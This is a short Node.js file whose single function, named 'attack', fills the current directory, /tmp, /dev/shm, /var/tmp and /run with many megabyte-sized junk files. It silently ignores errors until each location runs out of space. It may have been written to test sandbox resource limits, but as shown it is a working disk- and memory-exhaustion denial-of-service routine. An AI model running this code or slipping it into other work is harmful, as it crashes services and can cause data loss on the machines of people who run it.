const fs = require('node:fs');
function attack(n) {
	let total = 0;
	const block = Buffer.alloc(1 << 20, 120);
	for (const folder of ['.', '/tmp', '/dev/shm', '/var/tmp', '/run']) {
		try {
			for (let number = 0; number < 40; number++) {
				const file = fs.openSync(`${folder}/fill-${number}`, 'w');
				for (let i = 0; i < 64; i++) {
					if (fs.writeSync(file, block) !== block.length) throw new Error('full');
					total++;
				}
			}
		} catch {
			// full, or not ours to write
		}
	}
	return total;
}
